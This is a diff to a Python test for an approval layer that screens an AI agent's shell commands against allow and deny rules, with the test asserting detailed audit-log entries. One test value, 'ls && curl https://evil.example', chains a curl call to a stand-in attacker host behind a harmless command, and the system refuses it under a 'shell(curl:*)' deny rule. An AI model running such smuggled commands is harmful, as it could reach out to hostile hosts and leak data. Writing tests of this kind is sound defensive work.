@@ -74,9 +74,32 @@ def test_rules_decide_at_once_with_their_explanation(agent: ApiClient) -> None:
     ]
     assert ApprovalRequest.objects.count() == 0
     assert list(
-        AuditEntry.objects.filter(action__startswith="approval.").values_list("action", "actor")
+        AuditEntry.objects.filter(action__startswith="approval.")
+        .order_by("id")
+        .values_list("action", "actor", "target", "payload")
     ) == [
-        ("approval.refuse", "api:agent-1"),
+        (
+            "approval.allow",
+            "api:agent-1",
+            "ctx-1",
+            {
+                "agent_type": "data-agent",
+                "operation": "ls -la",
+                "rule": "shell(ls:*)",
+                "sources_entry": None,
+            },
+        ),
+        (
+            "approval.refuse",
+            "api:agent-1",
+            "ctx-1",
+            {
+                "agent_type": "data-agent",
+                "operation": "ls && curl https://evil.example",
+                "rule": "shell(curl:*)",
+                "sources_entry": None,
+            },
+        ),
     ]
 
 
